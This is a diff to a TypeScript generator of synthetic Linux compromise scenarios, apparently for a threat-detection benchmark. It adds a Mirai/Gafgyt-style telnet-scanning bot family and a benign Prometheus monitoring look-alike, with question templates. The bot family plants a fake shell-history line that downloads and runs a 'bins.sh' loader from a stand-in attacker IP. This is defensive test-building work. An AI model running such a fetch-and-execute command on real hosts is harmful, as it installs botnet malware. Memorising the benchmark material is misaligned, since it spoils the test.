@@ -1,5 +1,6 @@
 // Hiding: LKM rootkits, ld.so.preload process hiders, LD_PRELOAD, BPFDoor, kernel-thread masquerading, hidden dirs,
-// XorDDoS's spoofed command lines (and the look-alikes: Debian's alternatives, BusyBox applets).
+// XorDDoS's spoofed command lines (and the look-alikes: Debian's alternatives, BusyBox applets), a telnet-scanning bot
+// (and a monitoring server's many connections).
 import { run, withDecoys, randName, type Family } from "./kit.js";
 import { hostileIp } from "./fleet.js";
 import { serviceUser } from "./attacks-miners.js";
@@ -189,6 +190,50 @@ const utilityNames: Family = {
   },
 };
 
+const telnetBot: Family = {
+  name: "telnet-bot", kind: "attack", attack: ["T1046", "T1110.001", "T1105"], count: 4,
+  sources: ["Antonakakis et al., Understanding the Mirai Botnet (USENIX Security 2017): SYN scans of 23/2323", "Unit 42 and Netlab 360 Gafgyt/Mozi reports: bins.sh loaders, dropped binaries in /tmp", "MITRE ATT&CK T1046"],
+  q: {
+    direct: ["is there a Mirai or Gafgyt bot on {host}?", "is any host in {env} port scanning the internet?", "check the {role} for a telnet-scanning botnet client"],
+    paraphrase: ["is one of our machines trying to break into other people's devices?", "is {host} probing lots of other hosts?", "did something get dropped in /tmp that now talks to hundreds of addresses?"],
+  },
+  build(ctx) {
+    const { rng } = ctx;
+    const b = ctx.base(rng.pick(["web", "app", "cache", "monitoring"] as const));
+    const h = b.h;
+    const dir = rng.pick(["/tmp", "/var/tmp", "/dev/shm", "/tmp/.x"]);
+    const bin = `${dir}/${rng.pick(["dvrhelper", "mozi.m", "sora.x86", randName(rng, 7)])}`;
+    const pid = run(h, { name: bin.slice(bin.lastIndexOf("/") + 1).slice(0, 15), path: bin, cmdline: rng.chance(0.5) ? bin : "/bin/busybox ECCHI", parent: 1, ageMin: 300, ageMax: 86_400 });
+    const c2 = hostileIp(rng);
+    h.conn(pid, c2, rng.pick([23, 666, 1312, 6667]));
+    const port = rng.pick([23, 23, 2323, 22]);
+    for (let i = 0; i < rng.int(10, 30); i++) h.conn(pid, hostileIp(rng), port === 23 && rng.chance(0.2) ? 2323 : port, { state: "SYN_SENT" });
+    h.history(0, "/root", [`cd /tmp || cd /var/run || cd /mnt; wget http://${c2}/bins.sh; chmod 777 bins.sh; sh bins.sh`], h.recent(600, 86_400));
+    h.plant(bin, c2);
+    return withDecoys(ctx, { hosts: [{ b, compromised: true }], indicators: [c2] });
+  },
+};
+
+const manyConnections: Family = {
+  name: "many-connections", kind: "benign", attack: [], count: 4,
+  sources: ["Prometheus docs: scrape configuration (one connection per target)", "Blackbox exporter docs: TCP and ICMP probes", "HAProxy docs: health checks to every backend"],
+  q: {
+    direct: ["is any host in {env} port scanning the internet?", "is there a Mirai or Gafgyt bot on {host}?"],
+    paraphrase: ["is {host} probing lots of other hosts?", "why does the {role} have so many outgoing connections?"],
+  },
+  build(ctx) {
+    const { rng } = ctx;
+    const b = ctx.base(rng.pick(["monitoring", "web", "app"] as const));
+    const h = b.h;
+    const prom = run(h, { name: "prometheus", path: "/usr/bin/prometheus", cmdline: "/usr/bin/prometheus --config.file=/etc/prometheus/prometheus.yml --storage.tsdb.path=/var/lib/prometheus", uid: 112, ageMin: 3_600, ageMax: 86_400 * 30 });
+    for (let i = 0; i < rng.int(20, 60); i++) h.conn(prom, `10.${rng.int(0, 3)}.${rng.int(0, 255)}.${rng.int(2, 250)}`, rng.pick([9100, 9187, 9121, 8080]));
+    // A probe of a few slow endpoints in flight: half-open for a moment, to a handful of addresses.
+    const probe = run(h, { name: "blackbox_export", path: "/usr/bin/prometheus-blackbox-exporter", cmdline: "/usr/bin/prometheus-blackbox-exporter --config.file=/etc/prometheus/blackbox.yml", uid: 112, ageMin: 3_600, ageMax: 86_400 * 30 });
+    for (let i = 0; i < rng.int(2, 5); i++) h.conn(probe, `${rng.pick(["93.184.216", "151.101.1", "104.16.132"])}.${rng.int(1, 250)}`, 443, { state: "SYN_SENT" });
+    return withDecoys(ctx, { hosts: [{ b, compromised: false }] });
+  },
+};
+
 const hiddenDir: Family = {
   name: "hidden-dir", kind: "attack", attack: ["T1564.001", "T1074.001"], count: 4,
   sources: ["Atomic Red Team T1564.001: Create a hidden file in a hidden directory", "Sigma lnx_auditd_hidden_files_directories", "Sandfly Security: Linux hidden directory forensics"],
@@ -214,4 +259,4 @@ const hiddenDir: Family = {
   },
 };
 
-export const STEALTH_FAMILIES: Family[] = [lkm, preloadHider, preloadEnv, bpfdoor, kthreadMasq, hiddenDir, xorddos, utilityNames];
+export const STEALTH_FAMILIES: Family[] = [lkm, preloadHider, preloadEnv, bpfdoor, kthreadMasq, hiddenDir, xorddos, utilityNames, telnetBot, manyConnections];
